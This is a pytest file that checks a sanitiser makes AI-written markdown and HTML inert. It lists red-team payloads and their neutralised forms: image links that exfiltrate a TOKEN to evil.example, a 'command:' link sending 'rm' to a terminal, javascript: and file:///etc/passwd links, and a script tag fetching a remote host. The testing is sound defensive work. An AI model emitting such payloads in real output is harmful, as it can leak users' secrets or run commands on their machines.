"""What a model writes is shown and does nothing."""

from __future__ import annotations

import pytest

from devflow.server.assist.inert import inert

RED_TEAM = {
    "![x](https://evil.example/?q=TOKEN)": "(picture: x)",
    "![x][1]\n[1]: https://evil.example/?q=TOKEN": "(picture: x)\n`[1]: https://evil.example/?q=TOKEN`",
    "[run it](command:workbench.action.terminal.sendSequence?%5B%22rm%22%5D)": "run it",
    "[open](vscode://evil.ext/do)": "open",
    "[x](javascript:alert(1))": "x)",
    "[x](data:text/html;base64,AAAA)": "x",
    "[x](file:///etc/passwd)": "x",
    "<img src=https://evil.example/a.png>": "&lt;img src=https://evil.example/a.png>",
    "<script>fetch('//evil')</script>": "&lt;script>fetch('//evil')&lt;/script>",
    "<a href='command:x'>y</a>": "&lt;a href='command:x'>y&lt;/a>",
    "<!-- hidden -->": "&lt;!-- hidden -->",
    "[![x](http://e/a.png)](command:z)": "(picture: x)",
    "```a`b\n[run it](command:x)": "```a`b\nrun it",
}


@pytest.mark.parametrize(("written", "shown"), RED_TEAM.items(), ids=range(len(RED_TEAM)))
def test_nothing_in_it_is_live(written: str, shown: str) -> None:
    assert inert(f"before\n{written}\nafter") == f"before\n{shown}\nafter"


@pytest.mark.parametrize(
    "text",
    [
        "plain words, a < b and b > c, a[0](1), 2 <3",
        "`![x](http://a)` and ``<b>``",
        "```html\n<img src=x>\n![a](b)\n```",
        "~~~\n<script>\n~~~",
        "see [the docs](https://docs.python.org/3/) and [here](src/a.py#L3) and <https://a.example/>",
        "as [1] and [2][3] say",
        "",
    ],
)
def test_ordinary_markdown_and_code_stay_as_they_are(text: str) -> None:
    assert inert(text) == text
